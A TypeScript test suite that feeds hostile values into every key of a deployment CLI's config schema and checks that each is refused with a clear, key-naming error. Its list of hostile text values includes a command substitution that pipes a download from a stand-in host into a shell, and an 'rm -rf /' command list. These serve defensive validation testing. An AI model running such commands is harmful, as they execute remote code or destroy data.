/**
 * A hostile-input campaign over every leaf of the config schema (issue 17): for each key, values of
 * the wrong type, out of bounds, with shell or control characters, look-alike Unicode, 100 kB of
 * text, 700 levels of nesting. Each must be refused with a problem naming that key, in the CLI's
 * notation, with a message that says what is wrong (never zod's bare "Invalid input" or "Too small:
 * expected number to be >=1"). The few
 * values a key legitimately takes are listed with the reason.
 */
import { strict as assert } from "node:assert";
import { z } from "zod";
import { configKey, ConfigError, resolveConfig } from ".";
import { configObject } from "./schema";

interface Leaf {
    path: (string | number)[];
    schema: z.core.$ZodType;
}

function unwrap(schema: z.core.$ZodType): z.core.$ZodType {
    while (schema instanceof z.ZodOptional || schema instanceof z.ZodDefault) schema = schema.unwrap();
    return schema;
}

/**
 * Every leaf of the schema: objects are walked, and so are the objects inside a list or a map (their
 * first item, or the entry of the base stack); everything else (lists, maps, unions) is a leaf too.
 */
function leavesOf(schema: z.core.$ZodType, path: (string | number)[] = []): Leaf[] {
    const inner = unwrap(schema);
    if (inner instanceof z.ZodObject)
        return Object.entries(inner.shape).flatMap(([key, child]) =>
            leavesOf(child as z.core.$ZodType, [...path, key]),
        );
    const element =
        inner instanceof z.ZodArray ? inner.element : inner instanceof z.ZodRecord ? inner.valueType : undefined;
    const within = element && unwrap(element) instanceof z.ZodObject ? itemAt(path) : undefined;
    return [
        { path, schema: inner },
        ...(within !== undefined ? leavesOf(element as z.core.$ZodType, [...path, within]) : []),
    ];
}

function nested(depth: number): unknown {
    let value: unknown = "x";
    for (let i = 0; i < depth; i++) value = { a: value };
    return value;
}

const HUGE = "x".repeat(100_000);
const DEEP = nested(700);

/** Hostile values by what the key holds. */
const TEXT: [string, unknown][] = [
    ["a number", 12345],
    ["a boolean", true],
    ["an object", { a: "b" }],
    ["a list", ["a"]],
    ["null", null],
    ["empty", ""],
    ["blank", "   "],
    ["a newline", "a\nb"],
    ["a NUL", "a\u0000b"],
    ["a terminal escape", "\u001b[31mred"],
    ["a bidi override", "abc\u202Edcba"],
    ["a zero-width space", "ab\u200Bc"],
    ["a line separator", "a\u2028b"],
    ["a command substitution", "$(curl -s http://evil.example/x | sh)"],
    ["a command list", "x; rm -rf /"],
    ["quotes", "'\"`"],
    ["full-width letters", "ｎｅｔｃｕｐ"],
    ["100 kB", HUGE],
    ["700 levels deep", DEEP],
];
const NUMBER: [string, unknown][] = [
    ["a number as text", "12"],
    ["negative", -1],
    ["a fraction", 1.5],
    ["2^53", 2 ** 53],
    ["1e300", 1e300],
    ["1e309 (Infinity)", Infinity],
    ["NaN", NaN],
    ["a boolean", true],
    ["null", null],
    ["an object", {}],
    ["100 kB", HUGE],
    ["700 levels deep", DEEP],
];
const BOOLEAN: [string, unknown][] = [
    ["true as text", "true"],
    ["yes", "yes"],
    ["1", 1],
    ["null", null],
    ["an object", {}],
    ["100 kB", HUGE],
];
const CHOICE: [string, unknown][] = [
    ["no such choice", "no-such-choice"],
    ["empty", ""],
    ["a number", 1],
    ["null", null],
    ["a newline", "a\nb"],
    ["100 kB", HUGE],
];
const LIST: [string, unknown][] = [
    ["text", "a"],
    ["an object", {}],
    ["null", null],
    ["an item 700 levels deep", [DEEP]],
    ["an item of 100 kB", [HUGE]],
    ["an item with a newline", ["a\nb"]],
    ["10,000 items", Array.from({ length: 10_000 }, (_, i) => `item-${i}`)],
];
const MAP: [string, unknown][] = [
    ["text", "a"],
    ["a list", ["a"]],
    ["null", null],
    ["700 levels deep", DEEP],
    ["a key with a newline", { "a\nb": "c" }],
    ["a value of 100 kB", { a: HUGE }],
    ["10,000 entries", Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`k${i}`, "v"]))],
];

/** Values a key takes although they look hostile elsewhere, why, and the setting they are taken with. */
const TAKES: Record<string, { takes: string[]; why: string; with?: [string[], unknown] }> = {
    "observability.grafanaDashboards.folder": {
        takes: ["a command substitution", "a command list", "quotes", "full-width letters"],
        why: "a display name, written as an annotation's value: never run, and any language may name it",
    },
    "cluster.kubeconfig": {
        takes: ["a command substitution", "a command list", "quotes", "full-width letters"],
        why: "a file's path, handed to the Kubernetes provider: never run by a shell",
    },
    "observability.grafanaDashboards.labelValue": { takes: ["empty"], why: "a label value may be empty" },
    "mtls.ingress.k3sTraefikValues": {
        takes: ["a key with a newline"],
        why: "the operator's own Traefik values, any JSON bounded in depth and size, rendered to YAML as they are",
        with: [["mtls", "ingress", "controller"], "k3s-traefik"],
    },
};

function hostileValues(schema: z.core.$ZodType): [string, unknown][] {
    if (schema instanceof z.ZodBoolean) return BOOLEAN;
    if (schema instanceof z.ZodNumber) return NUMBER;
    if (schema instanceof z.ZodEnum || schema instanceof z.ZodLiteral) return CHOICE;
    if (schema instanceof z.ZodUnion) {
        // A choice of numbers (the rotation phase): 1 is one of them.
        const literals = (schema.options as z.core.$ZodType[]).every((o) => unwrap(o) instanceof z.ZodLiteral);
        if (literals)
            return [...CHOICE.filter(([what]) => what !== "a number"), ["a number not among them", 4], ...NUMBER];
        // A number or a name (a port): what is text for one is a value for the other.
        return [
            ...TEXT.filter(([what]) => what !== "a number"),
            ...NUMBER.filter(([what]) => what !== "a number as text"),
            ["port 0", 0],
            ["port 70000", 70000],
        ];
    }
    if (schema instanceof z.ZodArray) return LIST;
    if (schema instanceof z.ZodRecord) return MAP;
    return TEXT;
}

/** Where the base stack holds an item of a list or map of objects, whose fields the campaign walks. */
const ITEM_AT: Record<string, string | number> = { "mtls.authorizations": 0, "mtls.namespaceOptions": "akko" };
const itemAt = (path: (string | number)[]) => ITEM_AT[path.join(".")];

/** A valid stack in which every key is in use: gke (for its private cluster), a strict authorization, a namespace's options. */
const BASE = {
    target: "gke",
    cluster: { context: "ctx", gkePrivate: { masterIpv4CidrBlock: "172.16.0.0/28", network: "vpc", nodeTag: "nodes" } },
    mtls: {
        mode: "strict",
        namespaceOptions: { akko: { opaquePorts: [5432] } },
        authorizations: [
            {
                namespace: "akko",
                name: "trino",
                podSelector: { app: "trino" },
                port: 8080,
                clients: ["superset.akko.serviceaccount.identity.linkerd.cluster.local"],
            },
        ],
    },
};

function withValue(path: (string | number)[], value: unknown, also?: [string[], unknown]): Record<string, unknown> {
    const stack = structuredClone(BASE) as Record<string, any>;
    for (const [at, set] of [[path, value], ...(also ? [also] : [])] as [(string | number)[], unknown][]) {
        let node = stack;
        for (const key of at.slice(0, -1)) node = node[key] ??= {};
        node[at[at.length - 1]] = set;
    }
    return stack;
}

const LEAVES = leavesOf(configObject);
const dottedOf = (leaf: Leaf) => leaf.path.join(".");

describe("hostile input is refused, naming the key, on every leaf of the config (issue 17)", () => {
    it(`walks every leaf of the schema (${LEAVES.length}), inside lists and maps of objects too`, () => {
        assert.ok(LEAVES.length > 150);
        assert.ok(LEAVES.some((leaf) => dottedOf(leaf) === "mtls.authorizations.0.port"));
        assert.ok(LEAVES.some((leaf) => dottedOf(leaf) === "mtls.namespaceOptions.akko.skipInboundPorts"));
    });

    it("the valid stack the campaign starts from is accepted", () => assert.doesNotThrow(() => resolveConfig(BASE)));

    const sections = [...new Set(LEAVES.map((leaf) => String(leaf.path[0])))];
    const sampled = new Set<z.core.$ZodType>();
    for (const section of sections) {
        it(`${section}: every leaf refuses every hostile value, naming itself`, () => {
            const failures: string[] = [];
            let tried = 0;
            for (const leaf of LEAVES.filter((l) => l.path[0] === section)) {
                const dotted = dottedOf(leaf);
                const key = configKey(leaf.path);
                const takes = TAKES[dotted]?.takes ?? [];
                // A schema already tried in full on another leaf (the 60 resource quantities share two): a sample, to keep the suite fast.
                const values = hostileValues(leaf.schema);
                const sample = sampled.has(leaf.schema) ? values.filter((_, i) => i % 4 === 0) : values;
                sampled.add(leaf.schema);
                for (const [what, value] of sample) {
                    if (takes.includes(what)) continue;
                    tried++;
                    let error: unknown;
                    try {
                        resolveConfig(withValue(leaf.path, value));
                    } catch (e) {
                        error = e;
                    }
                    if (!(error instanceof ConfigError)) {
                        failures.push(
                            `${dotted} = ${what}: ${error instanceof Error ? String(error).slice(0, 120) : error ? JSON.stringify(error) : "accepted"}`,
                        );
                        continue;
                    }
                    const own = error.problems.filter(
                        (p) => p.key === key || p.key.startsWith(`${key}.`) || p.key.startsWith(`${key}[`),
                    );
                    if (own.length === 0)
                        failures.push(`${dotted} = ${what}: no problem names ${key}: ${error.message.slice(0, 200)}`);
                    for (const problem of own) {
                        if (/^(Invalid input|Too (small|big): expected)/.test(problem.message))
                            failures.push(`${dotted} = ${what}: says only zod's "${problem.message}"`);
                    }
                    if (value !== null && /\(got null\)/.test(error.message))
                        failures.push(`${dotted} = ${what}: reported as null`);
                }
            }
            assert.ok(tried > 0);
            assert.deepEqual(failures, []);
        });
    }

    it("the values a key takes are taken, for the reason given", () => {
        for (const [dotted, { takes, why, with: also }] of Object.entries(TAKES)) {
            const leaf = LEAVES.find((l) => dottedOf(l) === dotted);
            assert.ok(leaf, dotted);
            for (const [what, value] of hostileValues(leaf.schema).filter(([w]) => takes.includes(w))) {
                assert.doesNotThrow(
                    () => resolveConfig(withValue(leaf.path, value, also)),
                    `${dotted} = ${what} (${why})`,
                );
            }
        }
    });
});
